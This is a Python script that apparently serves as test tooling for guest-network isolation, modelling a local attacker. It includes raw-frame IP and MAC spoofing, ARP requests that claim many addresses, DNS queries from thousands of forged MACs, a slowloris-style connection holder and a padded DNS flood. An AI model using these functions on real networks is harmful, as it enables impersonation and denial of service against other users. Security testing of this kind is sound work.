"""What an attacker on the guest network can do: frames with any sender, and a listener for them.

python wire.py sink PORT FILE                                    write datagrams' payloads
python wire.py udp SADDR SPORT DADDR DPORT PAYLOAD COUNT         as itself
python wire.py frame IFACE SMAC DMAC SADDR DADDR SPORT DPORT PAYLOAD COUNT   as anybody
python wire.py dns SERVER NAME COUNT PAD                         prints how many were answered
"""

from __future__ import annotations

import contextlib
import socket
import struct
import sys
import time
from collections.abc import Iterable


def sink(port: str, path: str) -> None:
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as listener, open(path, "w") as file:
        listener.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        listener.bind(("::", int(port)))
        while True:
            payload, sender = listener.recvfrom(2000)
            file.write(payload.decode() + "\n")
            file.flush()
            listener.sendto(b"echo " + payload, sender)


def udp(source: str, sport: str, target: str, dport: str, payload: str, count: str) -> None:
    family = socket.AF_INET6 if ":" in target else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as sender:
        sender.bind((source, int(sport)))
        for _ in range(int(count)):
            with contextlib.suppress(OSError):  # an ICMP refusal of the one before
                sender.sendto(payload.encode(), (target, int(dport)))
            time.sleep(0.02)


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ethernet(smac: str, dmac: str, source: str, target: str, protocol: int, body: bytes) -> bytes:
    """Return a frame with an IPv4 packet from anybody to anybody."""
    addresses = socket.inet_aton(source) + socket.inet_aton(target)
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(body), 0, 0, 64, protocol, 0) + addresses
    head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
    return bytes.fromhex((dmac + smac).replace(":", "")) + b"\x08\x00" + head + body


def datagram(sport: int, dport: int, body: bytes) -> bytes:
    return struct.pack("!HHHH", sport, dport, 8 + len(body), 0) + body


def send(interface: str, frames: Iterable[bytes], pause: float = 0) -> None:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
        wire.bind((interface, 0))
        for one in frames:
            wire.send(one)
            time.sleep(pause)


def frame(
    interface: str, smac: str, dmac: str, source: str, target: str, sport: str, dport: str,
    payload: str, count: str,
) -> None:  # fmt: skip
    body = datagram(int(sport), int(dport), payload.encode())
    send(interface, [ethernet(smac, dmac, source, target, 17, body)] * int(count), 0.02)


def echo(interface: str, smac: str, dmac: str, source: str, target: str, count: str) -> None:
    body = b"\x08\0\0\0\0\1\0\1" + b"x" * 1000
    body = body[:2] + struct.pack("!H", checksum(body)) + body[4:]
    send(interface, [ethernet(smac, dmac, source, target, 1, body)] * int(count))


def arp(interface: str, smac: str, addresses: str) -> None:
    """Ask for the gateway as if each address were at ``smac``."""
    mac = bytes.fromhex(smac.replace(":", ""))
    head = b"\xff" * 6 + mac + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1) + mac
    gateway = bytes(6) + socket.inet_aton("10.77.0.1")
    send(interface, [head + socket.inet_aton(address) + gateway for address in addresses.split(",")])


def many(interface: str, dmac: str, source: str, target: str, count: str) -> None:
    """Ask a DNS question from a new device each time."""
    question = b"\0\1\1\0\0\1\0\0\0\0\0\0\3www\7example\3com\0\0\1\0\1"
    one = ethernet("02:99:00:00:00:00", dmac, source, target, 17, datagram(40_000, 53, question))
    macs = (b"\x02\x99" + struct.pack("!I", number) for number in range(int(count)))
    send(interface, (one[:6] + mac + one[12:] for mac in macs))


def late(address: str, request: str) -> None:
    """Connect, wait for a line on standard input, send a request, print the first line back."""
    with socket.create_connection((address, 80), 10) as connection:
        print("connected", flush=True)
        sys.stdin.readline()
        connection.sendall(request.encode())
        print(connection.recv(4096).split(b"\r\n")[0].decode(), flush=True)


def drip(address: str, count: str, seconds: str) -> None:
    """Hold connections open by a byte now and then; print how many are open at the end."""
    held = []
    for _ in range(int(count)):
        connection = socket.create_connection((address, 80), 3)
        connection.sendall(b"GET / HTTP/1.1\r\nHost: x\r\nX: ")
        held.append(connection)
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end:
        time.sleep(2)
        for connection in list(held):
            try:
                connection.sendall(b"a")
                connection.setblocking(False)
                if not connection.recv(1):
                    held.remove(connection)
            except BlockingIOError:
                connection.setblocking(True)
            except OSError:
                held.remove(connection)
    print(len(held))


def dns(server: str, name: str, count: str, pad: str) -> None:
    question = b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\0\0\1\0\1"
    padding = (
        b"\0\0\x29\x04\xd0\0\0\0\0" + struct.pack("!HHH", int(pad) + 4, 12, int(pad)) + bytes(int(pad))
    )
    answered = 0
    with socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM) as asker:
        asker.setblocking(False)
        for number in range(int(count)):
            flags = struct.pack("!HHHHHH", number, 0x0100, 1, 0, 0, 1 if int(pad) else 0)
            asker.sendto(flags + question + (padding if int(pad) else b""), (server, 53))
            time.sleep(0.002)
        time.sleep(0.3)
        with contextlib.suppress(BlockingIOError):
            while asker.recv(2000):
                answered += 1
    print(answered)


if __name__ == "__main__":
    globals()[sys.argv[1]](*sys.argv[2:])
